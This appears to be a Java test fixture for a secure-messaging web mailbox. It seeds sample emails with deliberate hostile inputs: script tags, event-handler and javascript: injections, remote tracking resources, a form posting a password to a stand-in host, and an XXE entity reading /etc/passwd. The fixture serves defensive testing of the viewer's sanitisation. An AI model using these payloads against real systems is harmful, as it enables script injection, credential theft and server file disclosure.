package health.direct.web;

import health.direct.core.mailbox.Folder;
import health.direct.core.mailbox.HeaderSummary;
import health.direct.core.mailbox.Mailbox;
import health.direct.core.store.DirectHome;
import health.direct.core.store.IdentityStore;
import health.direct.core.store.PasswordSource;
import health.direct.testkit.LeafSpec;
import health.direct.testkit.TestIdentity;
import health.direct.testkit.TestPki;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.Optional;

/**
 * Bob's home for the web tests: his identity (store password {@link #PASSWORD}), a trusted
 * referral in the inbox whose subject, text and attachment name try to run script, and an
 * unsecured message in the quarantine.
 */
final class TestHome {
  static final String PASSWORD = "store-pw";
  private static final TestPki PKI = TestPki.start(Clock.systemUTC());
  private static final TestIdentity BOB = PKI.issue(LeafSpec.address("bob@clinic.example"));

  /** An HTML body that tries every way to run script or load something from elsewhere. */
  static final String HOSTILE_HTML = "<html><head><style>body{background:url(http://remote.example/bg.png)}</style>"
      + "<script>window.ran = 4</script></head><body><p>Dear colleague, <b>Jane Doe</b> was discharged.</p>"
      + "<img src=\"http://remote.example/track.gif\" onerror=\"window.ran = 5\">"
      + "<a href=\"javascript:window.ran = 6\">click</a> <a href=\"https://hospital.example/portal\">portal</a>"
      + "<div onclick=\"window.ran = 7\" style=\"color:red\">styled</div>"
      + "<iframe src=\"http://remote.example/frame\"></iframe><form action=\"http://remote.example/steal\">"
      + "<input name=\"pw\"></form><svg onload=\"window.ran = 8\"></svg></body></html>";

  /** A C-CDA naming a remote stylesheet, with a narrative that carries a table, a list, a link and a script. */
  static final String CCDA = "<?xml version=\"1.0\"?>\n"
      + "<?xml-stylesheet type=\"text/xsl\" href=\"http://remote.example/cda.xsl\"?>\n"
      + "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>Discharge Summary</title>"
      + "<effectiveTime value=\"20261201143000-0500\"/>"
      + "<recordTarget><patientRole><id extension=\"MRN-4711\" root=\"2.16.840.1.113883.19.5\"/><patient>"
      + "<name><given>Jane</given><family>Doe</family></name>"
      + "<administrativeGenderCode code=\"F\" displayName=\"Female\"/><birthTime value=\"19700315\"/>"
      + "</patient></patientRole></recordTarget>"
      + "<component><structuredBody>"
      + "<component><section><title>Medications</title><text><table><thead><tr><th>Drug</th><th>Dose</th></tr></thead>"
      + "<tbody><tr><td>Metformin</td><td>500 mg twice daily</td></tr></tbody></table></text></section></component>"
      + "<component><section><title>Plan</title><text><list listType=\"ordered\"><item>Follow up in "
      + "<content styleCode=\"Bold\">two weeks</content></item><item>Check HbA1c</item></list>"
      + "<paragraph>See <linkHtml href=\"javascript:window.ran = 9\">this</linkHtml>.</paragraph>"
      + "<renderMultiMedia referencedObject=\"img1\"/><script>window.ran = 10</script></text>"
      + "<component><section><title>Diet</title><text><paragraph>Low sugar.</paragraph></text></section></component>"
      + "</section></component>"
      + "</structuredBody></component></ClinicalDocument>";

  /** XML with a DTD (how entity bombs and file reads start): never expanded, only offered as a download. */
  static final String DOCTYPE = "<?xml version=\"1.0\"?><!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "
      + "\"file:///etc/passwd\">]><ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>&x;</title></ClinicalDocument>";

  private TestHome() {}

  static DirectHome create(Path dir) throws Exception {
    DirectHome home = new DirectHome(dir.resolve("home")).create();
    char[] pw = "p12".toCharArray();
    new IdentityStore(home, PasswordSource.of(PASSWORD.toCharArray()), Clock.systemUTC())
        .importPkcs12(BOB.toPkcs12(pw), pw, Optional.empty());
    try (Mailbox box = Mailbox.open(home.mail(), Clock.systemUTC())) {
      Path trusted = Files.writeString(dir.resolve("t.eml"), "From: alice@hospital.example\r\nTo: bob@clinic.example\r\n"
          + "Subject: Referral <script>window.ran = 1</script>\r\nMessage-ID: <t1@hospital.example>\r\n"
          + "Date: Wed, 02 Dec 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
          + "--b\r\nContent-Type: text/plain\r\n\r\nPlease see J. Doe next week. <img src=x onerror=\"window.ran = 2\">\r\n"
          + "--b\r\nContent-Type: text/html; name=\"note.html\"\r\nContent-Disposition: attachment; "
          + "filename=\"<b>note</b>.html\"\r\n\r\n<script>window.ran = 3</script>\r\n--b--\r\n");
      box.store(Folder.INBOX, "test:1", trusted, Optional.empty(), HeaderSummary.of(trusted, "trusted",
          "signed by alice@hospital.example"));
      Path unsecured = Files.writeString(dir.resolve("u.eml"), "From: someone@elsewhere.example\r\n"
          + "Subject: hello\r\n\r\nplain\r\n");
      box.store(Folder.QUARANTINE, "test:2", unsecured, Optional.empty(), HeaderSummary.of(unsecured, "unsecured",
          "not signed and not encrypted"));
      Path summary = Files.writeString(dir.resolve("c.eml"), "From: alice@hospital.example\r\nTo: bob@clinic.example\r\n"
          + "Subject: Discharge summary\r\nMessage-ID: <t3@hospital.example>\r\nMIME-Version: 1.0\r\n"
          + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
          + "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE_HTML + "\r\n"
          + "--b\r\nContent-Type: application/xml; name=\"summary.xml\"\r\nContent-Disposition: attachment; "
          + "filename=\"summary.xml\"\r\n\r\n" + CCDA + "\r\n"
          + "--b\r\nContent-Type: application/xml; name=\"bomb.xml\"\r\nContent-Disposition: attachment; "
          + "filename=\"bomb.xml\"\r\n\r\n" + DOCTYPE + "\r\n--b--\r\n");
      box.store(Folder.ARCHIVE, "test:3", summary, Optional.empty(), HeaderSummary.of(summary, "trusted",
          "signed by alice@hospital.example"));
    }
    return home;
  }
}
